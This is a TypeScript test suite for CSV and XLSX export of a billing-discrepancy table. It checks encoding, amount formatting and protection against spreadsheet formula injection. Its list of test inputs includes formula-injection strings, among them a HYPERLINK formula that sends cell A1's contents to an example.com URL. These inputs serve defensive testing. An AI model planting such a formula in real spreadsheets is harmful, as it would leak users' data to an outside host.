import { read, utils } from "@e965/xlsx";
import { parse } from "csv-parse/sync";
import { afterEach, describe, expect, it, vi } from "vitest";
import type { Cell, Table } from "./table.ts";
import { writeCsv } from "./write-csv.ts";
import { writeXlsx } from "./write-xlsx.ts";

function tableOf(rows: Cell[][]): Table {
  return {
    name: "t",
    title: "差错",
    columns: [
      { zh: "单号", en: "number", kind: "text" },
      { zh: "金额（元）", en: "amount (yuan)", kind: "yuan" },
      { zh: "笔数", en: "count", kind: "number" },
    ],
    rows: (async function* () {
      for (const row of rows) yield [row];
    })(),
  };
}

// What a bill or an order may hold, and what a spreadsheet would make of it.
const FORMULAS = [
  "=1+1",
  "+1",
  "-1",
  "@SUM(A1)",
  "＝1+1",
  "＋1",
  "－1",
  "＠SUM(A1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\ufeff=1+1",
  '=HYPERLINK("http://example.com/?"&A1,"x")',
];

describe("CSV", () => {
  const textOf = async (rows: Cell[][], language: "zh-CN" | "en" = "zh-CN") =>
    (await writeCsv(tableOf(rows), language)).toString("utf8");

  it("begins with a byte order mark, ends lines with CRLF, and reads back", async () => {
    const rows: Cell[][] = [
      ['a,"b"', 1288, 3],
      ["两杯咖啡", -5, 0],
      [null, null, null],
    ];
    const text = await textOf(rows);
    expect(text.startsWith("\ufeff单号,金额（元）,笔数\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    expect(parse(text, { bom: true })).toEqual([
      ["单号", "金额（元）", "笔数"],
      ['a,"b"', "12.88", "3"],
      ["两杯咖啡", "-0.05", "0"],
      ["", "", ""],
    ]);
    expect(await textOf([], "en")).toBe("\ufeffnumber,amount (yuan),count\r\n");
  });

  it.each(FORMULAS)("is no formula: %j", async (text) => {
    const [, [cell = ""] = []] = parse(await textOf([[text, 1, 1]]), { bom: true });
    expect(cell).toBe(`'${text.trim()}`);
  });

  it("leaves amounts plain, negative ones too, to the largest", async () => {
    const rows = [
      [null, -1, 1],
      [null, 0, 1],
      [null, Number.MAX_SAFE_INTEGER, 1],
      [null, -1_000_000_000_000, 1],
    ];
    const [, ...lines] = parse(await textOf(rows), { bom: true });
    expect(lines.map(([, amount]) => amount)).toEqual(["-0.01", "0.00", "90071992547409.91", "-10000000000.00"]);
  });

  it("keeps one row on one line, whatever its text", async () => {
    const text = await textOf([["a\r\nb\u0000c\u2028d\ud800", 1, 1]]);
    expect(parse(text, { bom: true })[1]).toEqual(["a b c d", "0.01", "1"]);
  });
});

describe("XLSX", () => {
  afterEach(() => vi.useRealTimers());

  async function sheetOf(rows: Cell[][], language: "zh-CN" | "en" = "zh-CN") {
    const bytes = await writeXlsx(tableOf(rows), language);
    const book = read(bytes, { cellFormula: true, cellNF: true });
    const [name = ""] = book.SheetNames;
    const sheet = book.Sheets[name];
    if (!sheet) throw new Error("no sheet");
    return { name, bytes, sheet, rows: utils.sheet_to_json(sheet, { header: 1, defval: null }) };
  }

  it("is opened by another reader: text as text, amounts as numbers of yuan", async () => {
    const number = "4200000000202611200000000001";
    const { name, sheet, rows } = await sheetOf([
      [number, 1288, 3],
      ['两杯 <咖啡> & "茶"', -5, 0],
      [null, null, null],
      [null, 9_007_199_254, 1],
    ]);
    expect(name).toBe("差错");
    expect(rows).toEqual([
      ["单号", "金额（元）", "笔数"],
      [number, 12.88, 3],
      ['两杯 <咖啡> & "茶"', -0.05, 0],
      [null, null, null],
      [null, 90_071_992.54, 1],
    ]);
    expect(sheet.A2).toMatchObject({ t: "s", v: number });
    expect(sheet.B2).toMatchObject({ t: "n", v: 12.88, z: "#,##0.00" });
    expect(sheet.C2).toMatchObject({ t: "n", v: 3 });
  });

  it.each(FORMULAS)("holds text and no formula: %j", async (text) => {
    const { sheet } = await sheetOf([[text, 1, 1]]);
    expect(sheet.A2).toMatchObject({ t: "s", v: text.trim() });
    expect(sheet.A2).not.toHaveProperty("f");
  });

  it("gives the same bytes for the same table, at another time", async () => {
    const rows = [["a", 1, 1]];
    const first = await sheetOf(rows);
    vi.useFakeTimers({ toFake: ["Date"], now: Date.now() + 400 * 86_400_000 });
    expect((await sheetOf(rows)).bytes.equals(first.bytes)).toBe(true);
    expect(first.bytes.equals((await sheetOf(rows, "en")).bytes)).toBe(false);
  });
});
